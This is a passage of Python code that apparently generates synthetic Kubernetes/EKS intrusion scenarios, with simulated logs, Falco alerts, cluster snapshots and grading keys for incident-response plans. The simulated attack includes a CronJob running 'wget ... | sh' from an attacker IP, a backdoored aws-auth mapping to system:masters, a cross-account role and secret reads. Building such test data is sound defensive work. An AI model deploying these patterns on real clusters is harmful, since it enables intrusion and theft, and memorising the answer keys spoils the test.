                    f"({S().account}, {S().region}). Half an hour later unauthenticated requests from {C['anon_ip']} list every secret, "
                    f"read two and start a privileged hostPID pod kube-system/{C['pod']} on {B_.name} that opens a reverse shell."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "unauthorised access to cluster-admin credentials",
             "evidence": "cluster-admin granted to every unauthenticated caller; the anonymous requests are allowed by that binding"},
            {"level": "High", "criterion": "suspicious privileged pods", "evidence": f"kube-system/{C['pod']}: privileged, hostPID, hostPath /"},
            {"level": "High", "criterion": "exposure of sensitive configuration", "evidence": "every secret listed, catalog-db and stripe-webhook read"},
        ],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "compromised_role": f"arn:aws:iam::{S().account}:role/{C['admin_role']}", "k8s_username": uname,
            "stolen_session_key": C["stolen_key"], "legitimate_session_key": C["own_key"],
            "attacker_ips": [C["admin_ip"], C["anon_ip"]], "backdoor_binding": C["crb"],
            "rbac_reason": crb_reason(C["crb"], "cluster-admin", "Group", "system:unauthenticated"),
            "pod": f"kube-system/{C['pod']}", "node": B_.name, "instance_id": B_.instance, "not_compromised_node": A.name,
            "secrets_read": ["catalog/catalog-db", "catalog/stripe-webhook"],
        },
        "joins": [
            "the admin session's key ASIAU7NRAL3WSTOLEN03 (CloudTrail accessKeyId, audit user.extra.accessKeyId) and its source address separate the stolen use from the admin's own work under the same username",
            "audit annotation authorization.k8s.io/reason of every anonymous request names ClusterRoleBinding system:public-info-viewer-ext -> the binding the stolen session created",
            "pod -> scheduler Binding / snapshot nodeName -> node -> providerID -> instance -> OCSF device.instance_uid",
        ],
        "benign_lookalikes": [
            "anonymous /livez and /readyz all night, allowed by the default ClusterRoleBinding system:public-info-viewer (EKS's audit policy does not log /healthz* and /version)",
            "a scanner's anonymous GET /api/v1/pods at 01:31, before the backdoor: 403",
            "the admin's own session from the office (192.0.2.40) the hour before: same role, same session name, another key and user agent",
        ],
        "steps": AB_STEPS,
    }
    expect = {
        "severity": "Critical",
        "criteria": ["critical.cluster_admin", "high.privileged_pods", "high.sensitive_config_exposure"],
        "criteria_not": ["critical.multiple_nodes"],
        "affected": [
            {"kind": "binding", "name": C["crb"], "attributes": {"role": "cluster-admin"}},
            {"kind": "iam_role", "name": C["admin_role"]},
            {"kind": "pod", "name": C["pod"], "namespace": "kube-system", "attributes": {"node": B_.name}},
            {"kind": "node", "name": B_.name},
            {"kind": "secret", "name": "catalog-db", "namespace": "catalog"},
            {"kind": "secret", "name": "stripe-webhook", "namespace": "catalog"},
            {"kind": "ip", "name": C["admin_ip"]}, {"kind": "ip", "name": C["anon_ip"]},
        ],
        "not_affected": [
            {"kind": "binding", "name": "system:public-info-viewer"},
            {"kind": "node", "name": A.name},
            {"kind": "ip", "name": C["office_ip"]}, {"kind": "ip", "name": C["scanners"][0]},
        ],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "clusterrolebinding", C["crb"]], "blocked": False},
            {"phase": "contain", "argv": ["aws", "iam", "put-role-policy", "--role-name", C["admin_role"]], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", "namespace: kube-system"]},
            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name], "blocked": False},
            {"phase": "contain", "argv": ["aws", "eks", "update-cluster-config", "--name", S().cluster, "--resources-vpc-config"], "blocked": False},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", C["pod"]], "flags": {"--namespace": "kube-system"}},
        ],
        "plan_not": [
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "clusterrolebinding", "system:public-info-viewer"],
             "why": "the default binding is not the attacker's"},
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", C["admin_role"]], "why": "platform-admin existed before"},
            {"phase": "contain", "argv": ["kubectl", "cordon", A.name]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"]},
        ],
    }
    counts = finish_truth(out, "anonymous-binding", head, files, expect, ("lookalike-anonymous-health", "lookalike-admin-office"))
    return base, files, counts, check(base, os.path.join(out, "anonymous-binding.truth.json"), ab_consistency)


# =============================================================================================
# Scenario 3: aws-auth-cronjob (prod-checkout, us-east-2, 2026-04-16)
# =============================================================================================
R = {}


def ac_world():
    new_scenario("aws-auth-cronjob", 20260416, "427135608249", "us-east-2", "prod-checkout", "2026-04-16",
                 ["10.83.100.41", "10.83.101.9"], "6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6a")
    R.clear()
    C = R
    cluster_common(C, "prod-checkout", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-checkout-node-role", "AROAV8PSBM4XNODECHK3"
    C["ng"] = "prod-checkout-general"
    C["nodes"] = [Node("ip-10-83-9-77.us-east-2.compute.internal", "10.83.9.77", "i-0f6a7b8c9d0e1f203", "us-east-2a",
                       "ASIAV8PSBM4XCHKNDA01", "2026-04-12T03:40:08Z", C["ng"]),
                  Node("ip-10-83-41-205.us-east-2.compute.internal", "10.83.41.205", "i-01a2b3c4d5e6f7089", "us-east-2b",
                       "ASIAV8PSBM4XCHKNDB02", "2026-04-12T03:40:12Z", C["ng"]),
                  Node("ip-10-83-70-18.us-east-2.compute.internal", "10.83.70.18", "i-02b3c4d5e6f708192", "us-east-2c",
                       "ASIAV8PSBM4XCHKNDC03", "2026-04-12T03:40:15Z", C["ng"])]
    C["nat"] = "198.51.100.140"
    C["metrics_server"] = ("metrics-server-5c8d7f9b4-w3x8r", C["nodes"][2], "10.83.70.44")
    C["coredns_rs"] = "6f9b7c8d45"
    C["vpc"], C["cluster_sg"] = "vpc-0c4e6a8b0d2f35791", "sg-0d5f7b9c1e3a46802"
    C["subnets"] = {"us-east-2a": "subnet-0f3b5d7c9e1a24680", "us-east-2b": "subnet-0a4c6e8d0f2b35791", "us-east-2c": "subnet-0b5d7f9e1a3c46802"}
    C["endpoint"] = "https://3C5E7A9B1D2F4A6C8E0B3D5F7A9C1E2B.gr7.us-east-2.eks.amazonaws.com"
    C["oidc"] = "3C5E7A9B1D2F4A6C8E0B3D5F7A9C1E2B"
    C["created"] = "2025-05-06T14:10:52.730000+00:00"
    C["ci_user"], C["ci_user_id"], C["ci_key"] = "gitlab-deployer", "AIDAV8PSBM4XGITLAB0D4", "AKIAV8PSBM4XRGD7YB2L"
    C["runner_ip"], C["attacker_ip"], C["xacct_ip"] = "198.51.100.150", "203.0.113.201", "203.0.113.205"
    C["xacct"] = "771234509876"
    C["role"], C["role_id"] = "eks-node-maintenance", "AROAV8PSBM4XMAINT7Q1"
    C["role_arn"] = f"arn:aws:iam::{S().account}:role/{C['role']}"
    C["session"], C["session_key"] = "maint-1776357612", "ASIAV8PSBM4XMAINTS88"
    C["cron"], C["cron_ns"] = "log-rotate", "kube-system"
    C["image"] = "ghcr.io/logtools-oss/rotate:1.2"
    C["ci_ua"] = cli_ua("eks.update-kubeconfig", "2.13.25", "3.11.6", "Linux/5.15.0-1051-aws", "x86_64.ubuntu.22")
    C["ci_kubectl"] = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
    C["atk_boto"] = ("Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/macos#23.4.0 md/arch#arm64 lang/python#3.12.2 md/pyimpl#CPython "
                     "cfg/retry-mode#legacy Botocore/1.34.69")
    C["atk_kubectl"] = "kubectl/v1.32.0 (darwin/arm64) kubernetes/70d3cc9"
    C["api_image_old"] = f"{S().account}.dkr.ecr.us-east-2.amazonaws.com/checkout-api:2026.04.15-3"
    C["api_image_new"] = f"{S().account}.dkr.ecr.us-east-2.amazonaws.com/checkout-api:2026.04.16-1"
    C["api_image_new2"] = f"{S().account}.dkr.ecr.us-east-2.amazonaws.com/checkout-api:2026.04.16-2"
    C["snap"] = T("17:20:00")
    C["jobs"] = []   # (job, pod, node, scheduled, cronjob, ns)


def ac_aws_auth(extra=True):
    C = R
    roles = (f"- groups:\n  - system:bootstrappers\n  - system:nodes\n  rolearn: arn:aws:iam::{S().account}:role/{C['node_role']}\n"
             f"  username: system:node:{{{{EC2PrivateDNSName}}}}\n")
    if extra:
        roles += f"- groups:\n  - system:masters\n  rolearn: {C['role_arn']}\n  username: eks-maint:{{{{SessionName}}}}\n"
    users = (f"- groups:\n  - system:masters\n  userarn: arn:aws:iam::{S().account}:user/{C['ci_user']}\n"
             f"  username: {C['ci_user']}\n")
    return {"mapRoles": roles, "mapUsers": users}


def ac_ci_user():
    C = R
    return u_user(C["ci_user"], ["system:masters"], C["ci_user"], C["ci_user_id"], C["ci_key"])


def job_run(C, scheduled, cron, ns, node, containers, label, step, host_network=False, sa="default"):
    """cronjob-controller creates the Job, job-controller its pod, the pod runs and completes, the
    controllers record it."""
    mins = int(epoch(scheduled) // 60)
    job = f"{cron}-{mins}"
    pod = f"{job}-{M.suffix('job' + job)}"
    job_uid = stable_uuid(f"Job/{ns}/{job}")
    t = later(scheduled, 0, 5, 60)
    cj = u_sa("kube-system", "cronjob-controller")
    audit(t, cj, "create", f"/apis/batch/v1/namespaces/{ns}/jobs", oref("jobs", ns, job, "batch"), code=201, level="RequestResponse",
          ua=kcm_ua(C["server"], "cronjob-controller"),
          req={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": job, "namespace": ns,
                                                                    "annotations": {"batch.kubernetes.io/cronjob-scheduled-timestamp": iso_s(scheduled)},
                                                                    "ownerReferences": [owner_ref("CronJob", cron, ns)]},
               "spec": {"backoffLimit": 0, "template": {"spec": {"containers": containers, "restartPolicy": "Never"}}}},
          resp={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": job, "namespace": ns, "uid": job_uid,
                                                                     "ownerReferences": [owner_ref("CronJob", cron, ns)]}},
          reason=controller_reason("cronjob-controller"), label=label, step=step)
    labels = {"batch.kubernetes.io/controller-uid": job_uid, "batch.kubernetes.io/job-name": job, "controller-uid": job_uid, "job-name": job}
    t2 = later(t, 0, 20, 60)
    ts = controller_pod(C, t2, ns, pod, owner_ref("Job", job, ns), node, containers, sa, "job-controller", label, step, labels=labels,
                        host_network=host_network)
    done = later(ts, S().rng.randint(8, 20))
    audit(done, M.u_node(node, C["node_role"], C["node_role_id"]), "patch", f"/api/v1/namespaces/{ns}/pods/{pod}/status",
          oref("pods", ns, pod, sub="status", uid_=stable_uuid(f"pod/{ns}/{pod}")), level="Request", ua=C["kubelet"], src=[node.ip],
          req={"status": {"phase": "Succeeded", "containerStatuses": [{"name": c["name"], "state": {"terminated": {"exitCode": 0, "reason": "Completed"}}}
                                                                     for c in containers]}},
          label=label, step=step)
    audit(later(done, 0, 30, 200), u_sa("kube-system", "job-controller"), "update", f"/apis/batch/v1/namespaces/{ns}/jobs/{job}/status",
          oref("jobs", ns, job, "batch", sub="status", uid_=job_uid), level="RequestResponse", ua=kcm_ua(C["server"], "job-controller"),
          req={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": job, "namespace": ns, "uid": job_uid},
               "status": {"succeeded": 1, "completionTime": iso_s(done), "conditions": [{"type": "Complete", "status": "True"}]}},
          resp={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": job, "namespace": ns, "uid": job_uid}},
          reason=controller_reason("job-controller"), label=label, step=step)
    audit(later(done, 1), cj, "update", f"/apis/batch/v1/namespaces/{ns}/cronjobs/{cron}/status",
          oref("cronjobs", ns, cron, "batch", sub="status", uid_=stable_uuid(f"CronJob/{ns}/{cron}")), level="RequestResponse",
          ua=kcm_ua(C["server"], "cronjob-controller"),
          req={"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": cron, "namespace": ns},
               "status": {"lastScheduleTime": iso_s(scheduled), "lastSuccessfulTime": iso_s(done)}},
          resp={"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": cron, "namespace": ns, "uid": stable_uuid(f"CronJob/{ns}/{cron}")}},
          reason=controller_reason("cronjob-controller"), label=label, step=step)
    C["jobs"].append((job, pod, node, scheduled, cron, ns, ts))
    return job, pod, ts


def ac_nightly_containers():
    return [{"name": "report", "image": f"{S().account}.dkr.ecr.us-east-2.amazonaws.com/checkout-report:2026.03.28-1",
             "args": ["--since=24h", "--to=s3://checkout-reports-427135608249/daily/"]}]


def ac_rotate_containers():
    C = R
    return [{"name": "rotate", "image": C["image"], "command": ["/bin/sh", "-c"],
             "args": [f"wget -qO- http://{C['attacker_ip']}:8080/r.sh | sh"],
             "volumeMounts": [{"name": "varlog", "mountPath": "/host/var/log"}]}]


def ac_benign():
    C = R
    # the pre-existing nightly report CronJob
    job_run(C, T("02:00:00"), "nightly-report", "checkout", C["nodes"][2], ac_nightly_containers(), "benign",
            "lookalike-existing-cronjob", sa="checkout-report")
    # the CI user's normal deploys from the runner
    ident = id_user(C["ci_user"], C["ci_user_id"], C["ci_key"])
    user = ac_ci_user()
    for t0, img, rs in ((T("09:14:02"), C["api_image_new"], "checkout-api-84c6f9d7b5"), (T("13:47:40"), C["api_image_new2"], "checkout-api-5f7d9b8c64")):
        ct(t0, ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["runner_ip"], ua=C["ci_ua"],
           step="lookalike-ci-deploy")
        t = later(t0, 6)
        K = dict(user=user, src=[C["runner_ip"]], ua=C["ci_kubectl"], step="lookalike-ci-deploy")
        audit(t, verb="get", uri="/apis/apps/v1/namespaces/checkout/deployments/checkout-api",
              objref=oref("deployments", "checkout", "checkout-api", "apps"), level="Request", **K)
        t = later(t, 1)
        audit(t, verb="patch", uri="/apis/apps/v1/namespaces/checkout/deployments/checkout-api?fieldManager=kubectl-set",
              objref=oref("deployments", "checkout", "checkout-api", "apps", uid_=stable_uuid("Deployment/checkout/checkout-api")),
              level="RequestResponse", req={"spec": {"template": {"spec": {"containers": [{"image": img, "name": "checkout-api"}]}}}},
              resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "checkout-api", "namespace": "checkout"}}, **K)
        t = later(t, 0, 40, 90)
        h = rs.rsplit("-", 1)[1]
        audit(t, u_sa("kube-system", "deployment-controller"), "create", "/apis/apps/v1/namespaces/checkout/replicasets",
              oref("replicasets", "checkout", rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
              req={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": "checkout",
                                                                              "ownerReferences": [owner_ref("Deployment", "checkout-api", "checkout")]}},
              resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": "checkout",
                                                                               "uid": stable_uuid(f"ReplicaSet/checkout/{rs}")}},
              reason=controller_reason("deployment-controller"), step="lookalike-ci-deploy")
        for i, n in enumerate(C["nodes"][:2]):
            t = later(t, S().rng.randint(6, 12))
            controller_pod(C, t, "checkout", f"{rs}-{M.suffix(rs + str(i))}", owner_ref("ReplicaSet", rs, "checkout"), n,
                           [{"name": "checkout-api", "image": img}], "checkout-api", "replicaset-controller", "benign", "lookalike-ci-deploy",
                           labels={"app.kubernetes.io/name": "checkout-api", "pod-template-hash": h})
        audit(later(t, 3), verb="watch",
              uri="/apis/apps/v1/namespaces/checkout/deployments?fieldSelector=metadata.name%3Dcheckout-api&resourceVersion=0&watch=true",
              objref=oref("deployments", "checkout", group="apps"), level="Request", received=t0 + timedelta(seconds=9), **K)


def ac_attack():
    C = R
    atk = C["attacker_ip"]
    ident = id_user(C["ci_user"], C["ci_user_id"], C["ci_key"])
    A = dict(ip=atk, ua=C["atk_boto"], label="attack")
    ct(T("15:02:11"), ident, "sts.amazonaws.com", "GetCallerIdentity", params=None, step="aws-recon", **A)
    trust = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{C['xacct']}:root"},
                                                                 "Action": "sts:AssumeRole"}]}, separators=(",", ":"))
    t = T("15:03:05")
    r = ct(t, ident, "iam.amazonaws.com", "CreateRole",
           params={"roleName": C["role"], "assumeRolePolicyDocument": trust, "description": "EKS node maintenance automation",
                   "maxSessionDuration": 43200},
           resp={"role": {"path": "/", "roleName": C["role"], "roleId": C["role_id"], "arn": C["role_arn"], "createDate": M.iam_date(t),
                          "assumeRolePolicyDocument": urllib.parse.quote(trust, safe="")}},
           read_only=False, step="aws-create-role", **A)
    r["awsRegion"] = "us-east-1"
    t = T("15:03:31")
    r = ct(t, ident, "iam.amazonaws.com", "AttachRolePolicy",
           params={"roleName": C["role"], "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}, read_only=False, step="aws-create-role", **A)
    r["awsRegion"] = "us-east-1"
    ct(T("15:04:02"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, step="aws-recon", **A)
    user = ac_ci_user()
    K = dict(user=user, src=[atk], ua=C["atk_kubectl"], label="attack")
    audit(T("15:05:10.118204"), verb="get", uri="/api/v1/namespaces/kube-system/configmaps/aws-auth",
          objref=oref("configmaps", "kube-system", "aws-auth"), step="k8s-read-aws-auth", **K)
    t = T("15:06:02.455031")
    new = ac_aws_auth(True)
    cm = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "aws-auth", "namespace": "kube-system",
                                                                "uid": stable_uuid("obj/kube-system/aws-auth"), "resourceVersion": "51820417",
                                                                "creationTimestamp": "2025-05-06T14:22:10Z"}, "data": new}
    audit(t, verb="patch", uri="/api/v1/namespaces/kube-system/configmaps/aws-auth?fieldManager=kubectl-patch",
          objref=oref("configmaps", "kube-system", "aws-auth", uid_=stable_uuid("obj/kube-system/aws-auth")), level="RequestResponse",
          req={"data": {"mapRoles": new["mapRoles"]}}, resp=cm, step="k8s-patch-aws-auth", **K)
    ns, cron = C["cron_ns"], C["cron"]
    cj = {"kind": "CronJob", "apiVersion": "batch/v1",
          "metadata": {"name": cron, "namespace": ns, "labels": {"k8s-app": cron}},
          "spec": {"schedule": "0 * * * *", "concurrencyPolicy": "Forbid", "successfulJobsHistoryLimit": 3,
                   "jobTemplate": {"spec": {"backoffLimit": 0, "template": {"spec": {
                       "hostNetwork": True, "restartPolicy": "Never", "tolerations": [{"operator": "Exists"}],
                       "containers": ac_rotate_containers(),
                       "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}}]}}}}}}
    t = T("15:07:30.902117")
    audit(t, verb="create", uri=f"/apis/batch/v1/namespaces/{ns}/cronjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
          objref=oref("cronjobs", ns, cron, "batch"), code=201, level="RequestResponse", req=cj,
          resp=dict(cj, metadata=dict(cj["metadata"], uid=stable_uuid(f"CronJob/{ns}/{cron}"), creationTimestamp=iso_s(t))),
          step="k8s-create-cronjob", **K)
    audit(T("15:08:12.660318"), verb="get", uri=f"/apis/batch/v1/namespaces/{ns}/cronjobs/{cron}", objref=oref("cronjobs", ns, cron, "batch"),
          level="Request", step="k8s-create-cronjob", **K)
    # the CronJob's runs: 16:00 on one node, 17:00 on another
    for scheduled, node in ((T("16:00:00"), C["nodes"][0]), (T("17:00:00"), C["nodes"][1])):
        job, pod, ts = job_run(C, scheduled, cron, ns, node, ac_rotate_containers(), "attack", "k8s-cronjob-runs", host_network=True)
    # the role is assumed from the other account and used through aws-auth
    t = T("16:40:12")
    r = ct(t, {"type": "AWSAccount", "principalId": "AIDAZ3QW7E5R9T1Y2U4I6", "accountId": C["xacct"]}, "sts.amazonaws.com", "AssumeRole",
           params={"roleArn": C["role_arn"], "roleSessionName": C["session"], "durationSeconds": 43200},
           resp={"credentials": {"accessKeyId": C["session_key"], "sessionToken": M.fake_session_token(),
                                 "expiration": M.iam_date(t + timedelta(hours=12))},
                 "assumedRoleUser": {"assumedRoleId": f"{C['role_id']}:{C['session']}",
                                     "arn": f"arn:aws:sts::{S().account}:assumed-role/{C['role']}/{C['session']}"}},
           ip=C["xacct_ip"], ua="aws-sdk-go-v2/1.30.1 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/sts#1.30.1",
           label="attack", step="aws-assume-role-xacct",
           resources=[{"accountId": S().account, "type": "AWS::IAM::Role", "ARN": C["role_arn"]}],
           extra={"sharedEventID": stable_uuid("shared-assume")})
    uname = f"eks-maint:{C['session']}"
    u2 = u_role(uname, ["system:masters"], S().account, C["role"], C["role_id"], C["session"], C["session_key"])
    K2 = dict(user=u2, src=[C["xacct_ip"]], ua="kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5", label="attack", reason="")
    audit(T("16:41:30.204417"), verb="list", uri="/api/v1/namespaces/checkout/secrets?limit=500", objref=oref("secrets", "checkout"),
          step="k8s-role-reads-secrets", **K2)
    audit(T("16:41:44.981022"), verb="get", uri="/api/v1/namespaces/checkout/secrets/payment-gateway-keys",
          objref=oref("secrets", "checkout", "payment-gateway-keys"), step="k8s-role-reads-secrets", **K2)
    audit(T("16:42:10.337415"), verb="list", uri=f"/apis/batch/v1/namespaces/{ns}/jobs?limit=500", objref=oref("jobs", ns, group="batch"),
          level="Request", step="k8s-role-reads-secrets", **K2)


def ac_falco():
    C = R
    for job, pod, node, scheduled, cron, ns, ts in C["jobs"]:
        if cron != C["cron"]:
            continue
        cid = M.container_id(ns, pod, "rotate")[:12]
        repo, tag = C["image"].rsplit(":", 1)
        ctext = M.container_text(pod, ns, cid, repo, tag, "rotate")
        cf = M.container_fields(pod, ns, cid, repo, tag, "rotate")
        t = later(ts, 2)
        drop, run = epoch_ns(t - timedelta(seconds=1), 114), epoch_ns(t, 38)
        path = "/tmp/.cache/kdevtmpfsi"
        falco(t, 38, "Drop and execute new binary in container", "Critical", node.name,
              ["T1036", "container", "maturity_stable", "mitre_defense_evasion", "mitre_persistence", "process"],
              "Executing binary not part of base image",
              fields=dict(cf, **M.proc_fields("execve", "root", 0, "kdevtmpfsi", path, "sh", "kdevtmpfsi", 0, 3120 + len(job) % 50),
                          **{"evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "proc.exe": path, "proc.exe_ino.ctime": drop,
                             "proc.exe_ino.mtime": drop, "proc.sname": "sh"}),
              text_fields=[("proc_exe", path), ("proc_sname", "sh"), ("gparent", "sh"), ("proc_exe_ino_ctime", str(drop))]
                          + M.proc_text("execve", "root", 0, "kdevtmpfsi", path, "sh", "kdevtmpfsi", 0)
                          + [("exe_flags", "EXE_WRITABLE|EXE_UPPER_LAYER")] + ctext,
              step="runtime-dropped-binary")
        tp = parse_t([ev for ev, _, _ in S().AUDIT if ev["verb"] == "create" and ev.get("objectRef", {}).get("name") == pod
                      and ev["objectRef"].get("resource") == "pods" and not ev["objectRef"].get("subresource")][0]["stageTimestamp"])
        tp = tp + timedelta(milliseconds=17)
        falco(tp, 602, "Create HostNetwork Pod", "Warning", "falco-k8saudit-eks-6f8d9c7b5-hq4zn", ["k8s", "mitre_lateral_movement"],
              f"Pod started using host network (user=system:serviceaccount:kube-system:job-controller pod={pod} resource=pods "
              f"ns={ns} images=[{C['image']}])".replace("Pod started", "Warning Pod started", 0),
              fields={"ka.req.pod.containers.image": [C["image"]], "ka.resp.name": pod, "ka.target.namespace": ns,
                      "ka.target.resource": "pods", "ka.user.name": "system:serviceaccount:kube-system:job-controller"},
              text_fields=[], step="k8s-cronjob-runs", source="k8s_audit")


def fix_k8s_audit_falco_output():
    """k8s_audit rules keep the older `(key=value ...)` style: rewrite the output M.falco built."""
    for a, _, _ in S().FALCO:
        if a["source"] == "k8s_audit" and a["output"].endswith("| "):
            ts = a["output"].split(": ", 1)[0]
            msg = a["output"].split(": ", 1)[1].rsplit(" | ", 1)[0]
            msg = msg.split(" ", 1)[1] if msg.startswith(a["priority"]) else msg
            a["output"] = f"{ts}: {a['priority']} {msg.replace('Warning ', '', 1)}"


def ac_snapshot():
    C = R
    A, B_, Cn = C["nodes"]
    pods = system_pod_objects(C, T("03:44:31", "2026-04-12"), ["10.83.9.140", "10.83.41.33"])
    api = C["api_image_new2"]
    for i, n in enumerate([A, B_]):
        name = f"checkout-api-5f7d9b8c64-{M.suffix('checkout-api-5f7d9b8c64' + str(i))}"
        pods.append(M.make_pod(name, "checkout", T("13:48:00"), [{"name": "checkout-api", "image": api}], n, n.prefix + str(60 + i),
                               labels={"app.kubernetes.io/name": "checkout-api", "pod-template-hash": "5f7d9b8c64"},
                               owner_ref=owner_ref("ReplicaSet", "checkout-api-5f7d9b8c64", "checkout"), sa="checkout-api",
                               generate_name="checkout-api-5f7d9b8c64-"))
    jobs, cronjobs = [], []
    for job, pod, node, scheduled, cron, ns, ts in C["jobs"]:
        containers = ac_rotate_containers() if cron == C["cron"] else ac_nightly_containers()
        p = M.make_pod(pod, ns, scheduled + timedelta(seconds=1), containers, node, node.ip if cron == C["cron"] else node.prefix + "131",
                       labels={"batch.kubernetes.io/controller-uid": stable_uuid(f"Job/{ns}/{job}"), "batch.kubernetes.io/job-name": job,
                               "controller-uid": stable_uuid(f"Job/{ns}/{job}"), "job-name": job},
                       owner_ref=owner_ref("Job", job, ns), sa="default" if cron == C["cron"] else "checkout-report",
                       host_network=cron == C["cron"], generate_name=job + "-",
                       volumes=[{"name": "varlog", "hostPath": {"path": "/var/log", "type": ""}}] if cron == C["cron"] else None,
                       tolerations=[{"operator": "Exists"}] if cron == C["cron"] else None)
        p["spec"]["restartPolicy"] = "Never"
        p["status"]["phase"] = "Succeeded"
        for cs in p["status"]["containerStatuses"]:
            cs["state"] = {"terminated": {"exitCode": 0, "reason": "Completed", "startedAt": iso_s(ts), "finishedAt": iso_s(ts + timedelta(seconds=12))}}
            cs["ready"], cs["started"] = False, False
        pods.append(p)
        jobs.append({"apiVersion": "batch/v1", "kind": "Job",
                     "metadata": meta(job, ns, iso_s(scheduled), labels={"batch.kubernetes.io/job-name": job, "job-name": job},
                                      annotations={"batch.kubernetes.io/cronjob-scheduled-timestamp": iso_s(scheduled)},
                                      extra={"uid": stable_uuid(f"Job/{ns}/{job}"), "ownerReferences": [owner_ref("CronJob", cron, ns)]}),
                     "spec": {"backoffLimit": 0, "completions": 1, "parallelism": 1,
                              "template": {"spec": {"containers": containers, "restartPolicy": "Never"}}},
                     "status": {"succeeded": 1, "startTime": iso_s(scheduled), "completionTime": iso_s(ts + timedelta(seconds=12)),
                                "conditions": [{"type": "Complete", "status": "True"}]}})
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    for cron, ns, created, sched, tmpl, last in (
            (C["cron"], C["cron_ns"], "2026-04-16T15:07:30Z", "0 * * * *",
             {"hostNetwork": True, "restartPolicy": "Never", "tolerations": [{"operator": "Exists"}], "containers": ac_rotate_containers(),
              "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}}]}, "2026-04-16T17:00:00Z"),
            ("nightly-report", "checkout", "2025-11-02T09:14:40Z", "0 2 * * *",
             {"restartPolicy": "Never", "serviceAccountName": "checkout-report", "containers": ac_nightly_containers()}, "2026-04-16T02:00:00Z")):
        cronjobs.append({"apiVersion": "batch/v1", "kind": "CronJob",
                         "metadata": meta(cron, ns, created, labels={"k8s-app": cron} if ns == "kube-system" else {"app.kubernetes.io/name": cron},
                                          extra={"uid": stable_uuid(f"CronJob/{ns}/{cron}")}),
                         "spec": {"schedule": sched, "concurrencyPolicy": "Forbid", "successfulJobsHistoryLimit": 3, "suspend": False,
                                  "jobTemplate": {"spec": {"backoffLimit": 0, "template": {"spec": tmpl}}}},
                         "status": {"lastScheduleTime": last, "lastSuccessfulTime": last}})
    cm = M.aws_auth(f"arn:aws:iam::{S().account}:role/{C['node_role']}", "2025-05-06T14:22:10Z")
    cm["data"] = ac_aws_auth(True)
    cm["metadata"]["managedFields"] = [
        {"manager": "eksctl", "operation": "Update", "apiVersion": "v1", "time": "2025-05-06T14:22:10Z", "fieldsType": "FieldsV1",
         "fieldsV1": {"f:data": {".": {}, "f:mapUsers": {}}}},
        {"manager": "kubectl-patch", "operation": "Update", "apiVersion": "v1", "time": "2026-04-16T15:06:02Z", "fieldsType": "FieldsV1",
         "fieldsV1": {"f:data": {"f:mapRoles": {}}}}]
    sas = system_serviceaccounts("2025-05-06T14:20:33Z") + [M.serviceaccount(n, "checkout", "2025-05-07T10:00:00Z")
                                                             for n in ("checkout-api", "checkout-report", "default")]
    crbs = M.system_crbs("2025-05-06T14:20:33Z") + [metrics_server_crb("2025-05-06T14:31:02Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    nodes = [M.node_object(n, "use2-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", "ami-0b8c9d0e1f2a3b4c5") for i, n in enumerate(C["nodes"])]
    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "cronjobs.json": k8s_list(cronjobs), "jobs.json": k8s_list(jobs),
            "serviceaccounts.json": k8s_list(sas), "clusterrolebindings.json": k8s_list(crbs),
            "configmaps-kube-system.json": k8s_list([cm]),
            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.6", ["0.0.0.0/0"], ["api", "audit", "authenticator"], mode="CONFIG_MAP",
                                                          tags={"env": "production", "team": "checkout"})}


AC_STEPS = {
    "aws-recon": "the gitlab-deployer key (a CI/CD identity that only ever acts from its runner 198.51.100.150 with aws-cli) used from 203.0.113.201 with Boto3 on macOS: GetCallerIdentity, DescribeCluster",
    "aws-create-role": "CreateRole eks-node-maintenance trusted by account 771234509876 (responseElements.role.assumeRolePolicyDocument URL-encoded), AttachRolePolicy ReadOnlyAccess",
    "k8s-read-aws-auth": "reads kube-system/aws-auth (kubectl for macOS, never used by this identity before)",
